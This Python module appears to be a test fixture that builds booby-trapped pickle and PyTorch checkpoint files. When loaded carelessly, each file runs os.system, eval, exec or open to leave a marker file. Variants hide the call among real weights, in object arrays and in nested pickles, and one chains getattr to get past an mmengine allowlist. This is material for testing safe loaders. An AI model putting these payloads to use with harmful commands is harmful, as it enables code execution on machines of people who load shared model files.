"""Files that run code where they are read carelessly: each then leaves a marker file behind."""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch


class Call:
    """Pickles as a call, which an ordinary unpickler makes while it reads."""

    def __init__(self, function: Callable, *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple:
        return self.call


def weights() -> OrderedDict:
    return OrderedDict(weight=torch.ones(2, 2), bias=torch.zeros(2))


def _touch(marker: Path) -> Call:
    return Call(os.system, f"touch {marker}")


def _python(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _saved(content: Any, **options: Any) -> bytes:
    buffer = io.BytesIO()
    torch.save(content, buffer, **options)
    return buffer.getvalue()


def _global(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def _call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def _getattr(owner: bytes, name: str) -> bytes:
    return _call(_global("builtins", "getattr"), owner, _text(name))


def _by_getattr(marker: Path) -> bytes:
    """From a class that mmengine allows to ``eval``, by ``getattr`` alone, which mmengine allows too."""
    history = _global("mmengine.logging.history_buffer", "HistoryBuffer")
    names = _getattr(_getattr(history, "__init__"), "__globals__")
    builtins = _call(_getattr(names, "get"), _text("__builtins__"))
    function = _call(_getattr(builtins, "get"), _text("eval"))
    return b"\x80\x02" + _call(function, _text(_python(marker))) + b"."


def _in_archive(pickled: bytes) -> bytes:
    """A file of torch.save whose pickle is replaced."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_saved(weights()))) as source, zipfile.ZipFile(buffer, "w") as target:
        for name in source.namelist():
            target.writestr(name, pickled if name.endswith("data.pkl") else source.read(name))
    return buffer.getvalue()


PAYLOADS: dict[str, Callable[[Path], bytes]] = {
    "posix.system": lambda marker: _saved(_touch(marker)),
    "builtins.eval": lambda marker: _saved(Call(eval, _python(marker))),
    "builtins.exec": lambda marker: _saved(Call(exec, _python(marker))),
    "getattr abuse": lambda marker: _in_archive(_by_getattr(marker)),
    "open": lambda marker: _saved(Call(open, str(marker), "w")),
    "beside good weights": lambda marker: _saved({"state_dict": weights(), "meta": {"hook": _touch(marker)}}),
    "as one of the weights": lambda marker: _saved({"state_dict": OrderedDict(weights(), extra=_touch(marker))}),
    "pickle in a pickle": lambda marker: _saved(Call(pickle.loads, pickle.dumps(_touch(marker), 2))),
    "in an object array": lambda marker: _saved({"x": np.array([_touch(marker), None], dtype=object)}),
    "old torch format": lambda marker: _saved(_touch(marker), _use_new_zipfile_serialization=False),
    "plain pickle": lambda marker: pickle.dumps(_touch(marker), 2),
    "plain pickle, new protocol": lambda marker: pickle.dumps(_touch(marker), 5),
}
